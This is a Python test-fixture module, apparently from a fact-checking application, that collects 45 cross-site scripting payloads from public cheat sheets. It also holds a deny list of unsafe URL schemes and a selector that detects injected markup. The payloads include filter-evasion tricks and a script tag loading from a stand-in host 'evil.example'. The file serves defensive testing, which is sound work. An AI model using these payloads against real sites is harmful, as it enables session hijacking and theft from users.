"""A corpus of cross-site scripting payloads for the attack tests.

Each payload, if it ever ran, would open a dialog (``alert``/``confirm``/``prompt``) or
write ``window.__xss``; the browser test listens for both, for console errors (a payload
blocked only by the CSP still logs a violation) and for any element the markup would
create. Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat
sheet, and bugs shipped by annotation tools (Label Studio, doccano).

``JS_URLS`` are URLs that must never be stored: evidence and article URLs are http(s) only.
"""

PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "</script><script>alert(3)</script>",
    "<script>window.__xss=4</script>",
    # event handlers
    "<img src=x onerror=alert(5)>",
    '<img src="x" onerror="window.__xss=6">',
    "<body onload=alert(7)>",
    "<input autofocus onfocus=alert(8)>",
    "<details open ontoggle=alert(9)>",
    "<div onmouseover=alert(10)>hover</div>",
    "<video><source onerror=alert(11)></video>",
    "<marquee onstart=alert(12)>",
    # javascript: and data: URLs
    '<a href="javascript:alert(13)">click</a>',
    '<a href="JaVaScRiPt:alert(14)">x</a>',
    '<a href="&#106;avascript:alert(15)">x</a>',
    '<iframe src="javascript:alert(16)"></iframe>',
    '<iframe srcdoc="<script>alert(17)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(18)</script>"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxOSk8L3NjcmlwdD4=">',
    '<form action="javascript:alert(20)"><button>go</button></form>',
    # SVG and MathML
    "<svg onload=alert(21)>",
    "<svg><script>alert(22)</script></svg>",
    '<svg><a xlink:href="javascript:alert(23)"><text x="9" y="9">x</text></a></svg>',
    "<svg><animate onbegin=alert(24) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(25)>",
    # breaking out of attributes, templates and JSON
    '"><img src=x onerror=alert(26)>',
    "'><svg onload=alert(27)>",
    '" autofocus onfocus="alert(28)',
    "{{ 7*7 }}{% debug %}${alert(29)}",
    "</textarea><script>alert(30)</script>",
    "</title><script>alert(31)</script>",
    "\\u003cscript\\u003ealert(32)\\u003c/script\\u003e",
    '"};alert(33);//',
    # broken markup
    "<img src=x onerror=alert(34)//",
    "<<script>alert(35);//<</script>",
    "<!--<img src=--><img src=x onerror=alert(36)//>",
    '<style>@import "javascript:alert(37)";</style>',
    # unicode tricks
    "\uff1cscript\uff1ealert(38)\uff1c/script\uff1e",
    "<img src=x onerror=\u0061lert(39)>",
    "\u202eevil\u202c<script>alert(40)</script>",
    "<scr\u200bipt>alert(41)</scr\u200bipt>",
    "\U0001f600<svg/onload=alert(42)>\U0001f600",
    # CSS and meta refresh
    '<meta http-equiv="refresh" content="0;url=javascript:alert(43)">',
    '<link rel="stylesheet" href="javascript:alert(44)">',
    '<base href="javascript:alert(45)//">',
]

# URLs that must be refused wherever a URL is stored (article, statement, evidence). An
# http(s) URL with markup in it (https://x/"><script>) is a valid URL: it is stored and must
# render inert, which the browser test checks with payloads in the sources' URLs.
JS_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "//evil.example/x",
]

# Markup that, found in a page's DOM, means a payload turned into elements.
INJECTED_SELECTOR = ", ".join(
    [
        "script:not([src]):not([type='application/json']):not([type='application/ld+json'])",
        "script[src*='evil']",
        "[onerror]",
        "[onload]",
        "[onfocus]",
        "[onmouseover]",
        "[ontoggle]",
        "[onstart]",
        "[onbegin]",
        "iframe",
        "object",
        "embed",
        "marquee",
        "meta[http-equiv]",
        "base[href^='javascript']",
        "[href^='javascript' i]",
        "[src^='javascript' i]",
        "[action^='javascript' i]",
        "[srcdoc]",
        "[id^='xss']",
    ]
)

assert len(PAYLOADS) >= 30


def as_name(payload: str) -> str:
    """The payload as a name may hold it: names refuse invisible direction controls
    (factcheck.models.refuse_bidi_controls; tests/test_api_speakers.py), so they are left out."""
    from factcheck.models import BIDI_CONTROLS

    return "".join(c for c in payload if c not in BIDI_CONTROLS)
